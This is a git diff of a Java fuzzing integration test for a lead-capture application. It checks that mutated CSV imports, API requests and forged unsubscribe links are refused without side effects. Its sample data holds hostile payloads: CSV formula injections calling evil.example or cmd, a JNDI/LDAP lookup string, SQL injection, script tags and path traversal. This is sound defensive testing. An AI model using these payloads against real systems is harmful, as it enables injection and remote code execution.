@@ -6,17 +6,30 @@ import static io.leadflow.DemoUsers.MARKETING_OPS;
 import static io.leadflow.DemoUsers.PASSWORD;
 import static org.assertj.core.api.Assertions.assertThat;
 
+import com.jayway.jsonpath.JsonPath;
 import io.leadflow.LeadflowIntegrationTest;
+import io.leadflow.Mailbox;
+import io.leadflow.mail.UnsubscribeLinks;
+import java.io.IOException;
+import java.io.StringReader;
 import java.net.URI;
 import java.net.URLEncoder;
 import java.nio.charset.StandardCharsets;
+import java.time.Duration;
 import java.util.ArrayList;
+import java.util.Collection;
 import java.util.List;
+import java.util.Locale;
+import java.util.Map;
 import java.util.Optional;
 import java.util.Random;
+import java.util.UUID;
 import java.util.regex.Matcher;
 import java.util.regex.Pattern;
 import java.util.stream.Collectors;
+import java.util.stream.Stream;
+import org.apache.commons.csv.CSVFormat;
+import org.apache.commons.csv.CSVParser;
 import org.camunda.bpm.engine.IdentityService;
 import org.junit.jupiter.api.Test;
 import org.springframework.beans.factory.annotation.Autowired;
@@ -31,6 +44,7 @@ import org.springframework.http.ResponseEntity;
 import org.springframework.jdbc.core.JdbcTemplate;
 import org.springframework.util.LinkedMultiValueMap;
 import org.springframework.util.MultiValueMap;
+import org.springframework.web.util.UriComponentsBuilder;
 
 /**
  * Thousands of generated malformed, oversized and mutated requests against the capture API and list imports, and
@@ -51,10 +65,22 @@ class HostileInputIT {
        "timeframe":"LATER"}""";
 
   private static final MediaType TEXT_CSV = MediaType.parseMediaType("text/csv");
+  // two people, so that rows can be broken, repeated or lost; every upload lists the same two (each under a campaign
+  // of its own), so the imports merge into two leads instead of filling the demo reps' capacity
   private static final String VALID_CSV = """
       email,firstName,lastName,company,country,companySize,marketingConsent
       "fuzz@list.example",Ada,Lovelace,"Analytical Engines, Ltd",GB,1500,yes
+      "fuzz-too@list.example",Lin,Fuzz,Pages,DE,40,no
       """;
+  private static final CSVFormat LIST = CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true)
+      .setIgnoreEmptyLines(true).setIgnoreSurroundingSpaces(true).setTrim(true).get();
+  /** The leads this class writes, in SQL over leadflow.lead as l. */
+  private static final String OUR_LEADS = "(l.email like 'fuzz-%@analytical-engines.example' "
+      + "or l.email like 'fuzz%@list.example' or l.email like 'landing-fuzz-%@pages.example' "
+      + "or l.email like 'unsubscribe-%@analytical-engines.example' or l.email like 'still-serving-%@pages.example')";
+  // a busy machine makes background work slow, which is waited for; work that stands still this long has failed
+  private static final Duration STALL = Duration.ofMinutes(1);
+  private static final Duration LIMIT = Duration.ofMinutes(10);
 
   /** A lead that does not exist: the endpoints about one lead must refuse a bad body before they look it up. */
   private static final String NO_LEAD = "00000000-0000-0000-0000-00000000f022";
@@ -103,9 +129,11 @@ class HostileInputIT {
   @Autowired TestRestTemplate rest;
   @Autowired JdbcTemplate jdbc;
   @Autowired IdentityService identity;
+  @Autowired UnsubscribeLinks links;
+  @Autowired Mailbox mailbox;
 
   @Test
-  void shouldAnswerEveryHostileRequestWithAClearRefusalAndWriteNothing() {
+  void shouldAnswerEveryHostileRequestWithAClearRefusalAndWriteNothing() throws InterruptedException {
     Random random = new Random(SEED);
     long leadsBefore = leads();
     int created = 0;
@@ -125,22 +153,104 @@ class HostileInputIT {
     }
 
     long leadsAfterApi = leads();
+    List<Queued> queued = new ArrayList<>();
+    int refusedFiles = 0;
     for (int n = 0; n < REQUESTS / 10; n++) {
-      String csv = Mutation.values()[random.nextInt(Mutation.values().length)].apply(VALID_CSV, random);
+      ListMutation mutation = ListMutation.values()[random.nextInt(ListMutation.values().length)];
+      String csv = mutation.apply(VALID_CSV, random);
+      if (csv.equals(VALID_CSV)) {
+        failures.add("import " + n + " " + mutation + " left the list as it was");
+        continue;
+      }
       ResponseEntity<String> response = upload(csv, n);
       int status = response.getStatusCode().value();
-      if (status >= 500 || (status >= 400 && !isProblem(response))) {
-        failures.add("import " + n + " -> " + status + ": " + abbreviate(csv));
+      if (status == 202) {
+        queued.add(new Queued(JsonPath.read(response.getBody(), "$.id"), n + " " + mutation, csv));
+      } else if (status == 400 && isProblem(response) && response.getBody().contains("\"field\":\"file\"")) {
+        refusedFiles++;
+      } else {
+        failures.add("import " + n + " " + mutation + " -> " + status + " (a queued import or a problem naming the "
+            + "file expected): " + abbreviate(response.getBody()) + " for " + abbreviate(csv));
       }
+    }
+    // a list that passed the upload's checks is imported in the background, to its end, row by row
+    List<String> ids = queued.stream().map(Queued::id).toList();
+    WhileProgressing.await("the queued imports", () -> unfinished(ids) == 0,
+        () -> rowsImported(ids) + " rows imported, " + unfinished(ids) + " imports unfinished", STALL, LIMIT);
+    int rejectedRows = 0;
+    long createdByLists = 0;
+    for (Queued list : queued) {
+      Map<String, Object> report = jdbc.queryForMap("select status, failure, rows_read, created_count, merged_count, "
+          + "unchanged_count, rejected_count from leadflow.lead_import where id = ?::uuid", list.id());
+      String failure = checkImport(list, report);
+      if (failure != null) {
+        failures.add("import " + list.label() + ": " + failure + " " + report + " for " + abbreviate(list.csv()));
+      }
+      rejectedRows += (Integer) report.get("rejected_count");
+      createdByLists += (Integer) report.get("created_count");
     }
 
     assertThat(failures).as("requests not answered with a problem+json 4xx (seed %d)", SEED).isEmpty();
     assertThat(leadsAfterApi - leadsBefore).as("leads written: exactly the accepted requests").isEqualTo(created);
-    assertThat(rest.getForEntity("/actuator/health", String.class).getBody()).contains("\"UP\"");
+    assertThat(leads() - leadsAfterApi).as("leads written by the lists: exactly their rows that created one")
+        .isEqualTo(createdByLists);
+    // the lists were hostile enough to be refused whole, and to get rows refused one by one
+    assertThat(refusedFiles).as("lists refused at upload").isPositive();
+    assertThat(rejectedRows).as("rows the imports rejected").isPositive();
+    assertStillServing();
+  }
+
+  /** A list the upload accepted and queued for its import. */
+  private record Queued(String id, String label, String csv) {
+  }
+
+  /** What is wrong with a finished import of the list, or null: every row read, and each imported or rejected. */
+  private String checkImport(Queued list, Map<String, Object> report) {
+    String id = list.id();
+    if (!"DONE".equals(report.get("status"))) {
+      return "not done";
+    }
+    int rows;
+    try (CSVParser parser = LIST.parse(new StringReader(list.csv()))) {
+      rows = parser.getRecords().size();
+    } catch (IOException | RuntimeException unreadable) {
+      return "accepted, but not a readable list: " + unreadable.getMessage();
+    }
+    int read = (Integer) report.get("rows_read");
+    int created = (Integer) report.get("created_count");
+    int merged = (Integer) report.get("merged_count");
+    int rejected = (Integer) report.get("rejected_count");
+    if (read != rows || created + merged + (Integer) report.get("unchanged_count") + rejected != read) {
+      return "rows of the list: " + rows;
+    }
+    long reasons = jdbc.queryForObject("select count(*) from leadflow.lead_import_rejection where import_id = ?::uuid "
+        + "and reasons <> ''", Long.class, id);
+    long inquiries = jdbc.queryForObject("select count(*) from leadflow.inquiry where import_id = ?::uuid", Long.class,
+        id);
+    long fromRejectedRows = jdbc.queryForObject("select count(*) from leadflow.inquiry i "
+        + "join leadflow.lead_import_rejection r on r.import_id = i.import_id and r.line = i.import_line "
+        + "where i.import_id = ?::uuid", Long.class, id);
+    if (reasons != rejected || inquiries != created + merged || fromRejectedRows != 0) {
+      return reasons + " rejections with reasons, " + inquiries + " responses recorded, " + fromRejectedRows
+          + " of them from rejected rows";
+    }
+    return null;
+  }
+
+  private long unfinished(Collection<String> imports) {
+    return imports.isEmpty() ? 0 : jdbc.queryForObject("select count(*) from leadflow.lead_import "
+        + "where id::text in (" + String.join(",", imports.stream().map(id -> "'" + id + "'").toList()) + ") "
+        + "and status in ('QUEUED', 'RUNNING')", Long.class);
+  }
+
+  private long rowsImported(Collection<String> imports) {
+    return imports.isEmpty() ? 0 : jdbc.queryForObject("select coalesce(sum(rows_read), 0) from leadflow.lead_import "
+        + "where id::text in (" + String.join(",", imports.stream().map(id -> "'" + id + "'").toList()) + ")",
+        Long.class);
   }
 
   @Test
-  void shouldRefuseHostileRequestsToEveryOtherEndpointAndChangeNothingThen() {
+  void shouldRefuseHostileRequestsToEveryOtherEndpointAndChangeNothingThen() throws InterruptedException {
     if (identity.createUserQuery().userId("fuzzrep").count() == 0) {
       var user = identity.newUser("fuzzrep");
       user.setEmail("fuzzrep@leadflow.example");
@@ -175,11 +285,11 @@ class HostileInputIT {
     }
 
     assertThat(failures).as("requests not answered with a problem+json 4xx (seed %d)", SEED).isEmpty();
-    assertThat(rest.getForEntity("/actuator/health", String.class).getBody()).contains("\"UP\"");
+    assertStillServing();
   }
 
   @Test
-  void shouldRefuseHostileCompanyListsAndChangeNoCompanyThen() {
+  void shouldRefuseHostileCompanyListsAndChangeNoCompanyThen() throws InterruptedException {
     String valid = """
         domain,name,industry,companySize
         fuzz-company.example,"Fuzz Company, Inc",SOFTWARE,250
@@ -194,7 +304,11 @@ class HostileInputIT {
     for (int n = 0; n < REQUESTS / 20; n++) {
       boolean csvMutation = random.nextBoolean();
       String body = csvMutation ? CsvMutation.apply(valid, random)
-          : Mutation.values()[random.nextInt(Mutation.values().length)].apply(valid, random);
+          : Mutation.ANY_TEXT.get(random.nextInt(Mutation.ANY_TEXT.size())).apply(valid, random);
+      if (body.equals(valid)) {
+        // a flipped character that happened to be the same one: not a hostile list
+        continue;
+      }
       // now and then the wrong kind of body altogether
       MediaType type = random.nextInt(10) == 0 ? MediaType.APPLICATION_JSON : TEXT_CSV;
       ResponseEntity<String> response = send(companies, body, type);
@@ -213,21 +327,23 @@ class HostileInputIT {
 
     assertThat(failures).as("company lists not answered with a problem+json 4xx (seed %d)", SEED).isEmpty();
     assertThat(refused).as("broken lists refused").isGreaterThan(REQUESTS / 20 / 2);
-    assertThat(rest.getForEntity("/actuator/health", String.class).getBody()).contains("\"UP\"");
+    assertStillServing();
   }
 
   @Test
-  void shouldAnswerBrokenOrForgedUnsubscribeLinksWithAPageAndUnsubscribeNobody() {
-    // a real lead, so that a forged token for it is tried too
-    String email = "unsubscribe-target@analytical-engines.example";
-    if (jdbc.queryForObject("select count(*) from leadflow.lead where email = ?", Long.class, email) == 0) {
-      assertThat(post(VALID_LEAD.formatted(email), MediaType.APPLICATION_JSON).getStatusCode().value()).isEqualTo(201);
-    }
-    String someLead = jdbc.queryForObject("select id::text from leadflow.lead where email = ?", String.class, email);
+  void shouldAnswerBrokenOrForgedUnsubscribeLinksWithAPageAndUnsubscribeNobody() throws InterruptedException {
+    // real leads, so that tokens forged for one are tried too: near misses of its genuine token, and another's
+    String someLead = createdLead("unsubscribe-" + UUID.randomUUID() + "@analytical-engines.example");
+    String otherLead = createdLead("unsubscribe-" + UUID.randomUUID() + "@analytical-engines.example");
+    String genuine = token(someLead);
     String[] leads = {someLead, someLead, "not-a-uuid", "", "00000000-0000-0000-0000-000000000000",
         someLead + "' or '1'='1", "x".repeat(10_000), "\u0000", "%00", "../../etc/passwd"};
-    String[] tokens = {"", "AAAA", "x".repeat(10_000), "\u0000", "<script>alert(1)</script>", "Zm9v.YmFy",
-        "${jndi:ldap://x/a}", "%ZZ"};
+    String[] tokens = Stream.of("", "AAAA", "x".repeat(10_000), "\u0000", "<script>alert(1)</script>", "Zm9v.YmFy",
+            "${jndi:ldap://x/a}", "%ZZ", genuine.toUpperCase(Locale.ROOT), genuine.toLowerCase(Locale.ROOT),
+            genuine.substring(1), genuine.substring(0, genuine.length() - 1), genuine + "A", genuine + "=",
+            " " + genuine, genuine.replace('-', '+').replace('_', '/'),
+            genuine.substring(0, genuine.length() - 1) + (genuine.endsWith("A") ? "B" : "A"), token(otherLead))
+        .filter(token -> !token.equals(genuine)).toArray(String[]::new);
     String unsubscribed = "select count(*) from leadflow.lead where unsubscribed_at is not null";
     Long before = jdbc.queryForObject(unsubscribed, Long.class);
     Random random = new Random(SEED);
@@ -268,11 +384,23 @@ class HostileInputIT {
 
     assertThat(failures).as("unsubscribe links not answered with the invalid-link page (seed %d)", SEED).isEmpty();
     assertThat(jdbc.queryForObject(unsubscribed, Long.class)).as("leads unsubscribed").isEqualTo(before);
-    assertThat(rest.getForEntity("/actuator/health", String.class).getBody()).contains("\"UP\"");
+
+    // the genuine link the forgeries missed: opening it only asks to confirm, its button unsubscribes the lead
+    assertThat(rest.getForEntity(URI.create("/unsubscribe?lead=" + someLead + "&token=" + genuine), String.class)
+        .getStatusCode().value()).isEqualTo(200);
+    assertThat(jdbc.queryForObject(unsubscribed, Long.class)).as("leads unsubscribed by opening the link")
+        .isEqualTo(before);
+    MultiValueMap<String, String> button = new LinkedMultiValueMap<>();
+    button.add("lead", someLead);
+    button.add("token", genuine);
+    assertThat(rest.postForEntity("/unsubscribe", button, String.class).getStatusCode().value()).isEqualTo(200);
+    assertThat(jdbc.queryForObject(unsubscribed, Long.class)).as("leads unsubscribed by the genuine link")
+        .isEqualTo(before + 1);
+    assertStillServing();
   }
 
   @Test
-  void shouldAnswerHostileLandingPagePostsWithAPageAndCaptureNoRefusedVisitor() {
+  void shouldAnswerHostileLandingPagePostsWithAPageAndCaptureNoRefusedVisitor() throws InterruptedException {
     Random random = new Random(SEED);
     List<String> failures = new ArrayList<>();
     int refused = 0;
@@ -310,7 +438,7 @@ class HostileInputIT {
 
     assertThat(failures).as("landing page posts not answered with the form's error page (seed %d)", SEED).isEmpty();
     assertThat(refused).as("broken posts refused").isGreaterThan(REQUESTS / 20 / 2);
-    assertThat(rest.getForEntity("/actuator/health", String.class).getBody()).contains("\"UP\"");
+    assertStillServing();
   }
 
   /** What a bot or a broken browser extension does to a landing page form: fields, not bytes. */
@@ -369,6 +497,51 @@ class HostileInputIT {
 
   private record Endpoint(String user, HttpMethod method, String path, String validBody, int validStatus,
       String rows) {
+  }
+
+  /**
+   * The application still does its work after the hostile requests: healthy by Actuator, every step of the leads this
+   * class wrote run without a failure (nothing it accepted breaks a step later), and a new lead captured and
+   * acknowledged by mail as any other.
+   */
+  private void assertStillServing() throws InterruptedException {
+    assertThat(rest.getForEntity("/actuator/health", String.class).getBody()).contains("\"UP\"");
+    String email = "still-serving-" + UUID.randomUUID() + "@pages.example";
+    createdLead(email);
+    WhileProgressing.await("the due steps of the leads this class wrote", () -> dueStepsOfOurLeads() == 0,
+        () -> jdbc.queryForObject("select count(*) from public.act_hi_job_log", Long.class) + " job log entries",
+        STALL, LIMIT);
+    assertThat(jdbc.queryForList("""
+        select l.email || ': ' || j.failed_act_id_ || ' failed: ' || j.exception_msg_
+        from public.act_ru_job j join public.act_ru_execution p on p.id_ = j.process_instance_id_
+        join leadflow.lead l on l.id::text = p.business_key_ where j.exception_msg_ is not null and """ + OUR_LEADS
+        + """
+         union all select l.email || ': ' || i.activity_id_ || ' incident: ' || i.incident_msg_
+        from public.act_ru_incident i join public.act_ru_execution p on p.id_ = i.proc_inst_id_
+        join leadflow.lead l on l.id::text = p.business_key_ where """ + OUR_LEADS, String.class))
+        .as("failed steps of the leads this class wrote").isEmpty();
+    assertThat(mailbox.receivedBy(email)).as("mail to a lead captured afterwards").hasSize(1);
+  }
+
+  private long dueStepsOfOurLeads() {
+    return jdbc.queryForObject("""
+        select count(*) from public.act_ru_job j join public.act_ru_execution p on p.id_ = j.process_instance_id_
+        join leadflow.lead l on l.id::text = p.business_key_
+        where j.retries_ > 0 and j.exception_msg_ is null and j.suspension_state_ = 1
+          and (j.duedate_ is null or j.duedate_ <= now()) and """ + OUR_LEADS, Long.class);
+  }
+
+  /** A lead captured through the API as marketing ops do; its id. */
+  private String createdLead(String email) {
+    ResponseEntity<String> created = post(VALID_LEAD.formatted(email), MediaType.APPLICATION_JSON);
+    assertThat(created.getStatusCode().value()).as(created.getBody()).isEqualTo(201);
+    return JsonPath.read(created.getBody(), "$.id");
+  }
+
+  /** The token of the lead's genuine unsubscribe link, as its mails carry it. */
+  private String token(String leadId) {
+    return UriComponentsBuilder.fromUriString(links.url(UUID.fromString(leadId))).build().getQueryParams()
+        .getFirst("token");
   }
 
   private ResponseEntity<String> send(Endpoint endpoint, String body, MediaType contentType) {
@@ -441,6 +614,109 @@ class HostileInputIT {
       lines[1] = String.join(",", cells);
       return String.join("\n", lines) + "\n";
     }
+  }
+
+  /**
+   * The ways a spreadsheet, a broken export or an attacker mangles a list of leads: its cells, rows, header and
+   * characters. Each changes the list it is given.
+   */
+  enum ListMutation {
+    HOSTILE_CELL {
+      @Override
+      String apply(String csv, Random random) {
+        String[] lines = csv.split("\n");
+        int row = 1 + random.nextInt(lines.length - 1);
+        String[] cells = lines[row].split(CELL_BOUNDARY);
+        int cell = random.nextInt(cells.length);
+        String value;
+        do {
+          value = CELLS[random.nextInt(CELLS.length)];
+        } while (value.equals(cells[cell]));
+        cells[cell] = value;
+        lines[row] = String.join(",", cells);
+        return String.join("\n", lines) + "\n";
+      }
+    },
+    BROKEN_HEADER {
+      @Override
+      String apply(String csv, Random random) {
+        String[] lines = csv.split("\n");
+        String[] header = lines[0].split(",");
+        lines[0] = switch (random.nextInt(6)) {
+          case 0 -> lines[0] + ",secret";
+          case 1 -> String.join(",", List.of(header).subList(0, header.length - 1));
+          case 2 -> lines[0] + ",email";
+          case 3 -> lines[0].toUpperCase(Locale.ROOT);
+          case 4 -> lines[0].replace(',', ';');
+          default -> "";
+        };
+        return String.join("\n", lines) + "\n";
+      }
+    },
+    BROKEN_ROW {
+      @Override
+      String apply(String csv, Random random) {
+        String[] lines = csv.split("\n");
+        int row = 1 + random.nextInt(lines.length - 1);
+        String[] cells = lines[row].split(CELL_BOUNDARY);
+        lines[row] = switch (random.nextInt(4)) {
+          case 0 -> String.join(",", List.of(cells).subList(0, 1 + random.nextInt(cells.length - 1)));
+          case 1 -> lines[row] + ",extra,cells";
+          case 2 -> ",".repeat(cells.length - 1);
+          default -> lines[row].replaceFirst(",", ",\"");
+        };
+        return String.join("\n", lines) + "\n";
+      }
+    },
+    REPEATED_OR_SPACED_ROWS {
+      @Override
+      String apply(String csv, Random random) {
+        String[] lines = csv.split("\n");
+        return switch (random.nextInt(3)) {
+          case 0 -> csv + lines[1 + random.nextInt(lines.length - 1)] + "\n";
+          case 1 -> String.join("\n\n \n", lines) + "\n";
+          default -> String.join("\r\n", lines) + "\r\n";
+        };
+      }
+    },
+    TRUNCATED {
+      @Override
+      String apply(String csv, Random random) {
+        return csv.substring(0, random.nextInt(csv.length() - 1));
+      }
+    },
+    FLIPPED_CHARACTERS {
+      @Override
+      String apply(String csv, Random random) {
+        char[] characters = csv.toCharArray();
+        int flipped = 0;
+        while (flipped == 0 || random.nextInt(3) != 0) {
+          int at = random.nextInt(characters.length);
+          char replacement = (char) random.nextInt(0x3000);
+          if (replacement != characters[at]) {
+            characters[at] = replacement;
+            flipped++;
+          }
+        }
+        return new String(characters);
+      }
+    },
+    NOT_A_LIST {
+      @Override
+      String apply(String csv, Random random) {
+        return List.of("", "\uFEFF", "\n\n", "email\n", "{\"email\":\"fuzz@list.example\"}",
+            "<html><body>not a list</body></html>").get(random.nextInt(6));
+      }
+    };
+
+    /** A comma outside quotes. */
+    private static final String CELL_BOUNDARY = ",(?=(?:[^\"]*\"[^\"]*\")*[^\"]*$)";
+    private static final String[] CELLS = {"", "-5", "1e309", "9999999999999999999", "abc", "\u0000", "x".repeat(5000),
+        "\"unclosed", "=HYPERLINK(\"http://evil.example\")", "+cmd|' /C calc'!A0", "@SUM(1+1)", "no-at-sign",
+        "a@b", "a,b,c,d,e,f", "<script>alert(1)</script>", "${jndi:ldap://x/a}", "\"two\nlines\"",
+        "Robert'); DROP TABLE lead;--", "\u202eevil", "\"\"", "yes please", "XX", "12.5"};
+
+    abstract String apply(String csv, Random random);
   }
 
   /** The ways a hostile or broken client mangles a request. */
@@ -520,6 +796,9 @@ class HostileInputIT {
         return random.nextBoolean() ? "" : "null";
       }
     };
+
+    /** The mutations that change any text, not only JSON. */
+    static final List<Mutation> ANY_TEXT = List.of(BROKEN_JSON, FLIPPED_BYTES, NOT_JSON, EMPTY);
 
     /** A field's value: a string, a number, a flag, null or a list of plain values. */
     private static final String VALUE = "(\"[^\"]*\"|-?[0-9.]+|true|false|null|\\[[^\\[\\]{}]*\\])";
